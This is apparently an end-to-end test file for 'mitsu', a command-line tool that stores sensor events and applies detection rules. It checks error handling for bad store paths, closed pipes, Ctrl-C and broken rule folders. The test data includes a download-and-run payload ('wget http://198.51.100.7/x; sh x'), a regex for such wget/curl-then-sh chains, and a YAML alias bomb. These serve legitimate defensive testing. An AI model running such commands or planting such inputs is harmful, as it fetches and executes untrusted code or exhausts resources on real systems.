// End to end: the built CLI facing an operator's slips: a mistyped --db, a reader that goes
// away (`| head`), Ctrl-C on a terminal, a narrow terminal, rule folders that cannot load.
// Each must end in one line or quietly, never a new empty store, a stack trace or a terminal
// left without line wrap.

import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { beforeAll, describe, expect, it } from 'vitest';
import { emptyIocs } from '../src/events/event.js';
import { makeEvent } from '../src/store/fixtures.js';
import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
import { CLI, runCli, tempDir, waitFor } from './helpers/sensor.js';

const dir = tempDir('mitsu-cli-robustness-');
const db = join(dir, 'mitsu.db');
/** util-linux `script` gives the CLI a terminal, as an operator's shell does. */
const HAS_SCRIPT = spawnSync('script', ['--version']).status === 0;
/** Enough distinct IOCs that their listing outgrows a pipe's buffer (64 KiB on Linux). */
const IOC_EVENTS = 3_000;

beforeAll(async () => {
  const store = SqliteStore.open(db);
  await store.append(Array.from({ length: IOC_EVENTS }, (_, i) => makeEvent(i * 1_000, {
    iocs: { ...emptyIocs(), urls: [`http://198.51.100.${i % 250}/bins/mips-${i}.sh`] },
  })));
  await store.close();
});

/** Runs `mitsu ARGS | READER` under pipefail: the status is mitsu's unless the reader failed. */
function piped(args: string, reader: string): { status: number | null; stdout: string;
  stderr: string } {
  const script = `set -o pipefail; "${process.execPath}" "${CLI}" ${args} | ${reader}`;
  return spawnSync('bash', ['-c', script], { encoding: 'utf8', timeout: 60_000 });
}

describe('a --db that names no store', () => {
  const missing = join(dir, 'typo', 'mitsu.db');

  it.each([['reclassify'], ['iocs']])('mitsu %s exits with one line and creates nothing',
    (command) => {
      const out = runCli([command, '--db', missing]);
      expect(out.code).not.toBe(0);
      expect(out.stdout).toBe('');
      expect(out.stderr).toMatch(new RegExp(`^mitsu: no event store at "${missing}": the file ` +
        'does not exist; check --db; [^\\n]*\\(MITSU_STORE_UNAVAILABLE\\)\\n$'));
      expect(existsSync(join(dir, 'typo'))).toBe(false);
    });
});

describe('a reader that goes away', () => {
  it.each([
    [`iocs --db "${db}"`, 'head -n 1', /^[^\n]+\n$/],
    [`iocs --db "${db}" --format jsonl`, 'true', /^$/],
    ['rules list --json', 'head -c 10', /^\{"version"$/],
    ['rules list', 'true', /^$/],
  ])('mitsu %s | %s stops quietly', (args, reader, stdout) => {
    const out = piped(args, reader);
    expect(out.stderr).toBe('');
    expect(out.status).toBe(0);
    expect(out.stdout).toMatch(stdout);
  });
});

describe('Ctrl-C during mitsu reclassify on a terminal', () => {
  const big = join(dir, 'big.db');
  /** Several seconds of pages, so the interrupt lands in the middle. */
  const EVENTS = 60_000;

  beforeAll(async () => {
    const store = SqliteStore.open(big);
    await store.append(Array.from({ length: EVENTS }, (_, i) => makeEvent(i * 10)));
    await store.close();
  });

  /** Events the run rewrote: fixtures carry no rules_version until they are analysed. */
  function rewritten(): number {
    const db = new Database(big, { readonly: true });
    try {
      return (db.prepare("SELECT count(*) AS n FROM events WHERE " +
        "json_extract(extra_json, '$.rules_version') IS NOT NULL").get() as { n: number }).n;
    } finally {
      db.close();
    }
  }

  it.skipIf(!HAS_SCRIPT)('stops the bar with line wrap back on, says how far it got, keeps ' +
    'those pages and exits 130 (skipped without util-linux script)', async () => {
    const cmd = `"${process.execPath}" "${CLI}" reclassify --db "${big}"`;
    const proc = spawn('script', ['-qfec', cmd, '/dev/null'], { stdio: 'pipe' });
    let screen = '';
    proc.stdout.on('data', (chunk: Buffer) => { screen += chunk.toString('utf8'); });
    const exited = new Promise<number | null>((resolve) => proc.on('close', resolve));
    await waitFor(() => (/\| [1-9]\d*\/\d+ events/.test(screen) ? true : undefined), 60_000);
    proc.stdin.write('\x03'); // what the terminal sends on Ctrl-C
    expect(await exited).toBe(130);
    const line = new RegExp(`reclassify interrupted after (\\d+) of ${EVENTS} events, ` +
      '(\\d+) changed; those are committed').exec(screen);
    expect(line, screen.slice(-400)).not.toBeNull();
    expect(screen.lastIndexOf('\x1b[?7h')).toBeGreaterThan(screen.lastIndexOf('\x1b[?7l'));
    const [, done, changed] = line!.map(Number);
    expect(done).toBeLessThan(EVENTS);
    expect(changed).toBeGreaterThan(0);
    expect(rewritten()).toBe(changed);
  }, 90_000);
});

describe('Ctrl-C while reclassify times the rules', () => {
  it('says no stored event was changed and exits 130', async () => {
    const rules = join(dir, 'slow-rules');
    mkdirSync(rules);
    // Many seconds of timing on hostile payloads (it is then refused): the signal lands there.
    const slow = '(wget|curl|tftp)[^\\n]{0,1000}(http|ftp)[^\\n]{0,1000}(chmod|sh)';
    writeFileSync(join(rules, 'slow.yaml'), `- id: local-slow
  name: Slow (test)
  description: {en: Slow., ja: 遅い。}
  intent: scan
  match:
    any: [{in: payload, regex: '${slow}'}, {in: text, regex: '${slow}'},
      {in: commands, regex: '${slow}'}, {in: payload, regex: '${slow}x'},
      {in: text, regex: '${slow}x'}, {in: commands, regex: '${slow}x'}]
  examples: [{port: 23, payload: "wget http://198.51.100.7/x; sh x"}]
`);
    const db = join(dir, 'early.db');
    await SqliteStore.open(db).close();
    const proc = spawn(process.execPath, [CLI, 'reclassify', '--db', db, '--rules', rules],
      { stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    proc.stderr.on('data', (chunk: Buffer) => { stderr += chunk.toString('utf8'); });
    const exited = new Promise<number | null>((resolve) => proc.on('close', resolve));
    setTimeout(() => proc.kill('SIGINT'), 2_000);
    expect(await exited, stderr).toBe(130);
    expect(stderr).toBe('mitsu: reclassify interrupted while loading the rules; ' +
      'no stored event was changed\n');
  }, 60_000);
});

describe('rule folders that cannot load', () => {
  /** A folder holding `file` with `content`; the folder alone when `file` is empty. */
  function folder(name: string, file: string, content: string | Buffer): string {
    const path = join(dir, name);
    mkdirSync(path);
    if (file !== '') writeFileSync(join(path, file), content);
    return path;
  }

  const laughs = ['a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]',
    ...[...'bcdefghi'].map((n, i) => `${n}: &${n} [${Array(9).fill(`*${'abcdefgh'[i]}`)}]`)];
  const cases: [string, string, string, string | Buffer, RegExp][] = [
    ['an empty folder', 'empty', '', '', /^rules folder \S+empty holds no rule files/],
    ['an alias bomb', 'bomb', 'rules.yaml', laughs.join('\n'),
      /^rules file \S+rules\.yaml has a YAML alias \(\*name\) that cannot be expanded/],
    ['a Latin-1 file', 'latin1', 'rules.yml', Buffer.from('- id: caf\xe9\n', 'latin1'),
      /^rules file \S+rules\.yml line 1 is not UTF-8 text/],
  ];
  it.each(cases)('mitsu rules test exits 2 with one line for %s', (_what, name, file, content,
    message) => {
    const out = runCli(['rules', 'test', '--no-builtin', '--rules', folder(name, file, content)]);
    expect(out.code).toBe(2);
    expect(out.stdout).toBe('');
    expect(out.stderr).toMatch(/^mitsu: [^\n]+ \(MITSU_CONFIG_INVALID\)\n$/);
    expect(out.stderr.slice('mitsu: '.length)).toMatch(message);
  });
});

describe('mitsu rules list on a narrow screen', () => {
  /** Every id in load order, from the JSON listing, which is never cut. */
  function ids(): string[] {
    const out = runCli(['rules', 'list', '--json']);
    return (JSON.parse(out.stdout) as { rules: { id: string }[] }).rules.map((r) => r.id);
  }

  function expectFitted(lines: string[], width: number): void {
    expect(lines.map((l) => l.split(/\s+/)[0])).toStrictEqual(ids());
    expect(lines.filter((l) => [...l].length > width)).toStrictEqual([]);
    expect(lines.some((l) => l.endsWith('\u2026'))).toBe(true);
  }

  it('prints whole lines with every CVE column when stdout is a pipe, for grep', () => {
    const out = runCli(['rules', 'list']);
    expect(out.code).toBe(0);
    const lines = out.stdout.trimEnd().split('\n');
    expect(lines.map((l) => l.split(/\s+/)[0])).toStrictEqual(ids());
    expect(lines.some((l) => l.includes('\u2026'))).toBe(false);
    const log4shell = lines.filter((l) => l.includes('CVE-2021-44228'));
    expect(log4shell.length).toBeGreaterThan(0);
  });

  it.skipIf(!HAS_SCRIPT)('cuts each line to the width of the terminal (skipped without ' +
    'util-linux script)', () => {
    const cmd = `stty cols 90; "${process.execPath}" "${CLI}" rules list`;
    const out = spawnSync('script', ['-qec', cmd, '/dev/null'], { encoding: 'utf8',
      timeout: 60_000 });
    expect(out.status).toBe(0);
    expectFitted(out.stdout.replaceAll('\r', '').trimEnd().split('\n'), 90);
  });
});
